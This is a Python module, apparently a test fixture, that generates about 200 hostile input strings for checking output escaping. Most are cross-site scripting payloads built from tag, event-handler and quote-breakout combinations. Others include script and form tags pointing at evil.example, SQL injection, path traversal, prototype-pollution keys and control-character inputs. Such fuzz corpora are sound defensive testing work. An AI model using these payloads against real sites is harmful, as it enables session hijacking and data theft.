"""Two hundred texts that would do something, were any of them taken for more than text."""

from itertools import product

_ACT = "window.hacked=1"
_TAGS = (
    "<img src=x {e}={a}>", "<svg {e}={a}>", "<body {e}={a}>", "<iframe src=x {e}={a}>", "<details open {e}={a}>",
    "<video><source {e}={a}></video>", "<input autofocus {e}={a}>", "<object data=x {e}={a}>", "<marquee {e}={a}>",
    "<button popovertarget=x {e}={a}>go</button>",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onbeforetoggle", "onanimationstart")
_QUOTES = (
    '"',
    "'",
    "`",
    "\\",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</td></tr></table>",
)
_PAYLOADS = (
    f"<script>{_ACT}</script>", f'<img src=x onerror="{_ACT}">', f"<svg/onload={_ACT}>", f"<a href='javascript:{_ACT}'>x</a>",
    f"{{{{constructor.constructor('{_ACT}')()}}}}", f"${{{_ACT}}}", f"javascript:{_ACT}",
)  # fmt: skip
_ODD = (
    "\u202eevil\u2066\u2069", "\x1b[31mred\x1b[0m\x1b]0;title\x07", "\x00\x01\x7f\x9b", "\ufeff\u200b\u2060", "\u2028\u2029",
    "%3Cscript%3E" + _ACT, "&lt;script&gt;" + _ACT, "&#60;img src=x onerror=" + _ACT + "&#62;", "__proto__", "constructor",
    "toString", "<template><script>" + _ACT + "</script></template>", "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:" + _ACT + "'>", "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>*{display:none}</style>", "<form action='http://evil.example/'><input type=submit></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=" + _ACT + ">", "<noscript><p title='</noscript><img src=x onerror=" + _ACT + ">'>",
    "data:text/html,<script>" + _ACT + "</script>", "🏴‍☠️" * 40, "A" * 3_000, "a b\tc\nd\r\ne", "{n} {time} {cause}", "'; DROP TABLE flows; --",
    "../../etc/passwd", "\ud7ff\ue000\uffff", "<!--" + _ACT + "-->", "<![CDATA[<script>" + _ACT + "</script>]]>", "<?xml version='1.0'?>",
    "<script src='//evil.example/x.js'></script>", "<iframe srcdoc='<script>parent." + _ACT + "</script>'>", "<x contenteditable onblur=" + _ACT + ">",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=" + _ACT + ">#x'/></svg>", "<svg><animate onbegin=" + _ACT + " attributeName=x dur=1s>",
    "<img srcset=x onerror=" + _ACT + ">",
)  # fmt: skip

ATTACKS: tuple[str, ...] = (
    *(tag.format(e=event, a=_ACT) for tag, event in product(_TAGS, _EVENTS)),
    *(quote + payload for quote, payload in product(_QUOTES, _PAYLOADS)),
    *_ODD,
)
